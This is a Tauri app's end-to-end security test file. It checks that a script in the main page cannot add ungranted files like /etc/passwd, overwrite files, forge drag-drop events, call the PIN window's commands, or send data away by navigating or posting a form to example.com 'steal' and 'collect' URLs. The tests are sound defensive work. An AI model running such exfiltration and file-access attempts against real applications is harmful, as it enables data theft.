// The page holds no power it was not handed (issue 10): run as a script in the
// main page would, through the raw Tauri IPC (not the UI's own api.js checks).
//  - a path the shell did not mint is refused (add_documents, export_report_csv);
//  - Tauri's drag-drop events forged by the page add nothing;
//  - the PIN window's commands cannot be called from the main page;
//  - navigation and form posts away from the app are blocked.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { forgeDragDropEvents, startApp, tempDir, writeTinyPdf } from '../lib/session.js';

let s;
let dir;

before(async () => {
  dir = tempDir('kyso-e2e-power-');
  s = await startApp({ name: '03-least-power' });
  await (await s.browser.$('[data-testid="doc-list"]')).waitForExist({ timeout: 30000 });
});

after(async () => {
  await s?.close();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

/** invoke through the raw IPC, as any script in the page could; { ok } or { err }. */
async function raw(cmd, args) {
  return s.browser.execute(async (cmd, args) => {
    try {
      return { ok: await window.__TAURI_INTERNALS__.invoke(cmd, args) };
    } catch (e) {
      return { err: e };
    }
  }, cmd, args);
}

async function docCount() {
  return (await s.browser.$$('[data-testid="doc-item"]')).length;
}

test('a path the shell did not mint is refused', async () => {
  const pdf = writeTinyPdf(path.join(dir, 'không được trao.pdf'));
  const r = await raw('add_documents', { files: [pdf], role: 'sign' });
  assert.equal(r.err?.kind, 'not_granted', JSON.stringify(r));
  const r2 = await raw('add_documents', { files: ['/etc/passwd'], role: 'sign' });
  assert.equal(r2.err?.kind, 'not_granted', JSON.stringify(r2));
  const r3 = await raw('read_pdf', { id: 999 });
  assert.ok(r3.err, 'read_pdf takes queue ids only');
  const list = await raw('list_documents', {});
  assert.deepEqual(list.ok, [], 'nothing was added');
});

test('an overwrite outside a save dialog is refused', async () => {
  const victim = path.join(dir, 'quan-trong.txt');
  fs.writeFileSync(victim, 'giữ nguyên');
  for (const file of [victim, 'ffffffffffffffffffffffffffffffff']) {
    const r = await raw('export_report_csv', { year: 2026, file });
    assert.equal(r.err?.kind, 'not_granted', JSON.stringify(r));
  }
  const b = await raw('export_backup', { folder: dir });
  assert.equal(b.err?.kind, 'not_granted', JSON.stringify(b));
  assert.equal(fs.readFileSync(victim, 'utf8'), 'giữ nguyên');
  assert.deepEqual(fs.readdirSync(dir).sort(), ['không được trao.pdf', 'quan-trong.txt'].sort());
});

test('drag-drop events forged by the page add nothing', async () => {
  const pdf = writeTinyPdf(path.join(dir, 'kéo thả giả.pdf'));
  await forgeDragDropEvents(s.browser, [pdf]);
  await new Promise((r) => setTimeout(r, 1500));
  assert.equal(await docCount(), 0);
});

test("the PIN window's commands are not the main page's", async () => {
  for (const [cmd, args] of [['pin_submit', { pin: '123456' }], ['pin_request', {}], ['pin_cancel', {}], ['pin_document', {}]]) {
    const r = await raw(cmd, args);
    assert.ok(r.err, `${cmd} answered the main page: ${JSON.stringify(r)}`);
    assert.match(JSON.stringify(r.err), /not allowed|denied|permission/i, `${cmd}: ${JSON.stringify(r.err)}`);
  }
});

test('navigation and form posts away from the app are blocked', async () => {
  const before = await s.browser.getUrl();
  await s.browser.execute(() => { window.location.href = 'https://example.com/steal?d=1'; });
  await new Promise((r) => setTimeout(r, 1500));
  assert.equal(await s.browser.getUrl(), before);
  await s.browser.execute(() => {
    const f = document.createElement('form');
    f.method = 'post';
    f.action = 'https://example.com/collect';
    const i = document.createElement('input');
    i.name = 'x'; i.value = 'secret';
    f.append(i);
    document.body.append(f);
    f.submit();
  });
  await new Promise((r) => setTimeout(r, 1500));
  assert.equal(await s.browser.getUrl(), before);
  // Still the app, still working.
  assert.ok(await (await s.browser.$('[data-testid="nav-sign"]')).isExisting());
  const r = await raw('app_info', {});
  assert.ok(r.ok?.version, JSON.stringify(r));
});
